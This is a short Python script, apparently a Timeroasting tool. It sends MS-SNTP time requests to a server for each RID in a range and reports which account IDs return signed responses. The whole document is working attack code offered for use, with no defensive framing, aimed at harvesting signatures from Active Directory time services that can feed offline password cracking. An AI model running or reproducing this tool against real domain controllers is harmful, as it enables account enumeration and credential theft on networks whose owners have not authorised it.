"""Signatures of the time collected: what [MS-SNTP] 2.2.1 gives to whoever asks, one RID after the other.

timeroast.py SERVER FROM TO
"""

import select
import socket
import struct
import sys
import time

SINCE_1900 = 2_208_988_800

server, first, last = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
    client.connect((server, 123))

    def collect(seconds):
        while select.select([client], [], [], seconds)[0]:
            answer = client.recv(200)
            if len(answer) == 68 and any(answer[52:]):
                print("signed for", struct.unpack("<I", answer[48:52])[0] & 0x7FFFFFFF)

    for rid in range(first, last):
        stamp = struct.pack(">II", int(time.time()) + SINCE_1900, 0)
        client.send(struct.pack(">B39x", 0o33) + stamp + struct.pack("<I16x", rid))
        collect(1 / 180)
    collect(1)
